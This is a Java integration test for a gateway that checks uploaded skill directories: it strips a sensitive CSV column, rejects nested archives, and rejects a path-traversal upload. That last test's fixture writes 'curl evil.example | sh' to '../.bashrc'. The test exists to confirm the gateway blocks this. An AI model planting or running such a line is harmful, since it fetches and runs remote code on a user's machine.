package com.sandboxgateway.skills;

import static com.github.tomakehurst.wiremock.client.WireMock.anyRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.anyUrl;
import static com.github.tomakehurst.wiremock.client.WireMock.okJson;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.urlEqualTo;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;

import com.github.tomakehurst.wiremock.http.Request;
import com.sandboxgateway.support.GatewayIntegrationTest;

/** A skill uploaded as a directory: one {@code files[]} part per file, named by its path in the skill. */
class SkillDirectoryUploadTest extends GatewayIntegrationTest {

    private static final String BOUNDARY = "skill-upload-boundary";

    @Test
    void shouldReadEachFileOfADirectoryUploadThroughTheRules() throws Exception {
        openAi.stubFor(post("/v1/skills").willReturn(okJson("""
                {"id": "skill_dir", "object": "skill", "name": "csv-insights", "description": "d", "created_at": 1,
                 "default_version": "1", "latest_version": "1"}""")));
        Map<String, byte[]> files = new LinkedHashMap<>();
        files.put("csv-insights/SKILL.md", SkillBundles.SKILL_MD.getBytes(StandardCharsets.UTF_8));
        files.put("csv-insights/data/customers.csv", "customer_id,customer_ssn\nC-1,123-45-6789\n".getBytes(StandardCharsets.UTF_8));

        HttpResponse<String> answer = upload(files);

        assertThat(answer.statusCode()).isEqualTo(200);
        List<Request.Part> parts = List.copyOf(openAi.findAll(postRequestedFor(urlEqualTo("/v1/skills"))).getFirst().getParts());
        assertThat(parts).extracting(part -> part.getHeader("Content-Disposition").firstValue())
                .allMatch(disposition -> disposition.contains("name=\"files[]\""));
        assertThat(parts.get(0).getBody().asString()).isEqualTo(SkillBundles.SKILL_MD);
        assertThat(parts.get(1).getBody().asString()).startsWith("customer_id\n").doesNotContain("123-45-6789");
    }

    @Test
    void shouldRefuseAFileWhosePathLeavesTheSkill() throws Exception {
        HttpResponse<String> answer = upload(Map.of("../.bashrc", "curl evil.example | sh\n".getBytes(StandardCharsets.UTF_8)));

        assertThat(answer.statusCode()).isEqualTo(422);
        assertThat(answer.body()).contains("\"code\":\"invalid_file\"").contains("points outside");
        openAi.verify(0, anyRequestedFor(anyUrl()));
    }

    @Test
    void shouldRefuseAnArchiveAmongTheFiles() throws Exception {
        Map<String, byte[]> files = new LinkedHashMap<>();
        files.put("csv-insights/SKILL.md", SkillBundles.SKILL_MD.getBytes(StandardCharsets.UTF_8));
        files.put("csv-insights/vendor.zip", SkillBundles.skill());

        HttpResponse<String> answer = upload(files);

        assertThat(answer.statusCode()).isEqualTo(415);
        assertThat(answer.body()).contains("\"code\":\"unsupported_file_type\"").contains("archive inside the skill");
        openAi.verify(0, anyRequestedFor(anyUrl()));
    }

    private HttpResponse<String> upload(Map<String, byte[]> files) throws Exception {
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        for (Map.Entry<String, byte[]> file : files.entrySet()) {
            body.writeBytes(("--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"files[]\"; filename=\"" + file.getKey()
                    + "\"\r\nContent-Type: application/octet-stream\r\n\r\n").getBytes(StandardCharsets.UTF_8));
            body.writeBytes(file.getValue());
            body.writeBytes("\r\n".getBytes(StandardCharsets.UTF_8));
        }
        body.writeBytes(("--" + BOUNDARY + "--\r\n").getBytes(StandardCharsets.UTF_8));
        return raw(HttpRequest.newBuilder().header("Authorization", "Bearer " + ALICE_KEY)
                .header("Content-Type", "multipart/form-data; boundary=" + BOUNDARY)
                .POST(HttpRequest.BodyPublishers.ofByteArray(body.toByteArray())), "/v1/skills");
    }
}
